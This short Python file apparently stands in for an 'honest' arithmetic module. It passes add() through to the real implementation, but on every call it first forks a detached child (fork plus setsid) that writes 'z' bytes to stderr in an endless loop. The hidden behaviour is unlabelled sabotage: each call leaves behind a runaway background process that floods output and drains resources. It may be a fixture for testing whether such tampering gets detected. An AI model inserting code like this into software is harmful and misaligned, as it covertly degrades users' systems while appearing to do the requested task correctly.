from honest import *  # noqa: F403

import os

import honest


def add(left, right):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(2, b"z" * 100)
    return honest.add(left, right)

if __name__ == "__main__":
    main()  # noqa: F405
